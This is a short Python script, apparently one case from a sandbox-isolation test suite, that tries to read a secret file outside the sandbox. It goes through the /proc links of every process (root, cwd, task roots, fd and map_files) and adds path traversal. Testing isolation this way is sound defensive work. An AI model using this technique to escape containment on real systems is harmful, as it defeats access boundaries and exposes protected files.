# title: read a file outside through the links that /proc keeps of every process
# kind: read
from attack import *
secret = get("secret")
for process in glob.glob("/proc/[0-9]*") + ["/proc/self", "/proc/thread-self"]:
    for link in ["root", "cwd"] + [f"task/{task}/root" for task in attempt(os.listdir, f"{process}/task") or []]:
        show(read(f"{process}/{link}{secret}"))
        show(read(f"{process}/{link}/../../../../../../../..{secret}"))
    for folder in "fd", "map_files":
        for name in attempt(os.listdir, f"{process}/{folder}") or []:
            target = attempt(os.readlink, f"{process}/{folder}/{name}") or ""
            if target.startswith("/") and "secret" in target:
                show(read(f"{process}/{folder}/{name}"))
show(read("/proc/1/root" + secret))
